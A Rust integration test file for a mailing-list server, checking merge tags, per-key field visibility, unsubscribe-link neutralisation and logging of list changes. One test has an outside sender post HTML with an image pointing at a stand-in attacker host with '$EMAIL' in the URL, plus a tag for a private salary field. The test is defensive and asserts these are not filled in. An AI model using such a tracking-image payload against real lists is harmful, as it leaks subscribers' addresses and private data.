//! Changes that a list's settings make to a post on its way through the running server.

use serde_json::json;

use crate::harness::TestApp;

const HEAD: &str = "Message-ID: <1@example.org>\nDate: Fri, 20 Nov 2026 12:00:00 +0000\nMIME-Version: 1.0\n";

#[tokio::test]
async fn every_member_gets_its_own_merge_tags() {
    let app = TestApp::start().await;
    app.add_field("Shoe size", Some("shoe")).await;
    let list =
        app.list("news").open().with("merge_tags_enabled", "1").with("merge_tags_default_name", "friend");
    let list = list.create().await;
    for (name, address, size) in [("Zo\u{eb}", "zoe@example.org", "38"), ("", "nobody@example.org", "")] {
        let contact = json!({"emails": [address], "lists": ["news"], "firstname": name, "Shoe size": size});
        app.admin.post_json("/api/2/contacts/", &contact).await.good();
    }

    let text = "Subject: For $FIRSTNAME\nContent-Type: text/plain; charset=utf-8\n\nHi $NAME, size ${Shoe size}/${shoe}, $$, $5\n";
    app.send_mail("stranger@example.net", &list.address, &format!("{HEAD}{text}")).await;
    app.settle().await;

    let zoe = app.sink.mail_to("zoe@example.org");
    assert_eq!(zoe.header("Subject").as_deref(), Some("=?utf-8?Q?For_Zo=C3=AB?="));
    assert!(
        zoe.text().ends_with("\n\nHi=20=\nZo=C3=AB=\n, size ${Shoe size}/${shoe}, $$, $5\n"),
        "{}",
        zoe.text()
    );
    let nobody = app.sink.mail_to("nobody@example.org");
    assert_eq!(nobody.header("Subject").as_deref(), Some("For friend"));
    assert!(nobody.text().contains("Hi=20=\nfriend=\n, size"), "{}", nobody.text());
}

/// The text of a copy without the soft line breaks of its encoding.
fn joined(text: &str) -> String {
    text.replace("=\n", "").replace("=20", " ")
}

#[tokio::test]
async fn mail_of_members_shows_no_fields_and_no_links_of_its_readers() {
    let app = TestApp::start().await;
    app.add_field("salary", None).await;
    let list = app.list("news").open().with("merge_tags_enabled", "1").create().await;
    let contact =
        json!({"emails": ["zoe@example.org"], "lists": ["news"], "firstname": "Zoe", "salary": "70000"});
    app.admin.post_json("/api/2/contacts/", &contact).await.good();
    let html =
        "<p>$FIRSTNAME ${salary} $UNSUBSCRIBE $MANAGE ${NAME} <img src=\"https://eve.example/?$EMAIL\"></p>";
    let mail = format!("{HEAD}Subject: $UNSUBSCRIBE ${{salary}}\nContent-Type: text/html\n\n{html}\n");
    app.send_mail("eve@example.net", &list.address, &mail).await;
    app.settle().await;
    let copy = app.sink.mail_to("zoe@example.org");
    assert_eq!(copy.header("Subject").as_deref(), Some("$UNSUBSCRIBE ${salary}"));
    let body = copy.text().split_once("\n\n").unwrap().1.to_owned();
    assert_eq!(body, format!("{}\n", html.replace("$FIRSTNAME", "Zoe")));
}

#[tokio::test]
async fn content_of_the_api_shows_links_and_the_fields_that_its_key_sees() {
    let app = TestApp::start().await;
    app.add_field("team", None).await;
    app.add_field("salary", None).await;
    app.list("news").with("merge_tags_enabled", "1").create().await;
    let contact = json!({"emails": ["zoe@example.org"], "lists": ["news"], "firstname": "Zoe",
        "team": "red", "salary": "70000"});
    app.admin.post_json("/api/2/contacts/", &contact).await.good();
    let admin = json!({"api": 2, "description": "x", "permissions": ["send_messages", "limit_metadata"],
        "limit_metadata": ["team"]});
    let admin = app.admin.post_json("/api/2/admins/", &admin).await.good();
    let path = format!("/api/2/admins/{}/", admin["id"]);
    let key = app.admin.put(&path, &[("get_key", "")]).await.good()["key"].as_str().unwrap().to_owned();
    let limited = app.anon.with_authorization(&format!("Bearer {key}"));
    for (client, shown) in [(&app.admin, "Hi Zoe red 70000 "), (&limited, "Hi Zoe red ${salary} ")] {
        app.sink.clear();
        let fields = [
            ("list", "news"),
            ("subject", "${salary}"),
            ("content_plain", "Hi $NAME ${team} ${salary} \nLeave: $UNSUBSCRIBE\n"),
        ];
        client.post("/api/2/messages/", &fields).await.good();
        // What counts is what the key could see when it posted.
        app.admin.put_json(&path, &json!({"limit_metadata": ["team", "salary"]})).await.good();
        app.settle().await;
        let copy = app.sink.mail_to("zoe@example.org");
        let text = joined(&copy.text());
        assert!(text.contains(shown), "{text}");
        assert_eq!(copy.header("Subject").unwrap().contains("70000"), shown.contains("70000"));
        assert!(text.contains("Leave: https://lists.example.org/unsubscribe/"), "{text}");
        app.admin.put(&path, &[("limit_metadata", "team")]).await.good();
    }
}

#[tokio::test]
async fn an_attached_copy_of_another_member_has_no_link_that_works() {
    let app = TestApp::start().await;
    let list = app.list("news").with("message_footer", "Leave: $UNSUBSCRIBE").members(2).create().await;
    app.send_mail("member1@example.org", &list.address, &format!("{HEAD}Subject: one\n\nhi\n")).await;
    app.settle().await;
    let attached = app.sink.mail_to("member2@example.org").text();
    app.sink.clear();
    let forwarded = format!(
        "Message-ID: <2@example.org>\nDate: x\nSubject: Fwd: one\nMIME-Version: 1.0\n\
         Content-Type: multipart/mixed; boundary=b\n\n--b\n\nlook\n\
         --b\nContent-Type: message/rfc822\nContent-Disposition: attachment\n\n{attached}\n--b--\n"
    );
    app.send_mail("member2@example.org", &list.address, &forwarded).await;
    app.settle().await;
    let copy = joined(&app.sink.mail_to("member1@example.org").text());
    let attached = copy.split_once("Content-Type: message/rfc822").unwrap().1;
    assert_eq!(attached.matches("/unsubscribe/").count(), 2, "{attached}");
    assert_eq!(attached.matches("/unsubscribe/removed/").count(), 2, "{attached}");
    assert_eq!(
        attached.matches("confirm+").count(),
        attached.matches("confirm+removed@").count(),
        "{attached}"
    );
    assert!(!attached.contains("bounces+a"), "{attached}");
}

#[tokio::test]
async fn what_a_list_changes_is_kept_with_the_message() {
    let app = TestApp::start().await;
    let list = app
        .list("news")
        .with("subject_prefix", "[News]")
        .with("message_footer", "Bye")
        .with("strip_attachments", "1")
        .with("truncate", "20")
        .members(1)
        .create()
        .await;

    let message = format!(
        "{HEAD}Subject: long\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nas long as it takes to say this\n\
         --b\nContent-Type: image/png; name=a.png\n\nx\n--b--\n"
    );
    app.send_mail("member1@example.org", &list.address, &message).await;
    app.settle().await;

    let copy = app.sink.mail_to("member1@example.org").text();
    assert!(copy.contains("\n\nas long as it takes\n\n[This message was cut off here"), "{copy}");
    let messages = app.admin.get("/api/2/messages/").await.good();
    assert_eq!(
        messages["data"][0]["changes"],
        json!([
            "truncated: text/plain",
            "Attachment removed: a.png (image/png, 1 KB)",
            "footer: a part of its own",
            "subject prefix"
        ])
    );
}

#[tokio::test]
async fn a_quoted_link_for_leaving_works_for_nobody_else() {
    let app = TestApp::start().await;
    let list = app.list("news").with("message_footer", "Leave: $UNSUBSCRIBE").members(2).create().await;
    app.send_mail("member1@example.org", &list.address, &format!("{HEAD}Subject: one\n\nhi\n")).await;
    app.settle().await;
    let copy = app.sink.mail_to("member2@example.org").text();
    let quoted = copy.split_once("\n\n").unwrap().1.replace("=\n", "").replace('\n', "\n> ");
    app.sink.clear();

    let answer = format!("Message-ID: <2@example.org>\nDate: x\nSubject: Re: one\n\nyes\n\n> {quoted}\n");
    app.send_mail("member2@example.org", &list.address, &answer).await;
    app.settle().await;

    let copy = app.sink.mail_to("member1@example.org").text();
    assert!(copy.contains("https://lists.example.org/unsubscribe/removed/"), "{copy}");
    assert_eq!(
        copy.matches("/unsubscribe/").count(),
        3,
        "the quoted one, the footer's and the header's: {copy}"
    );
}
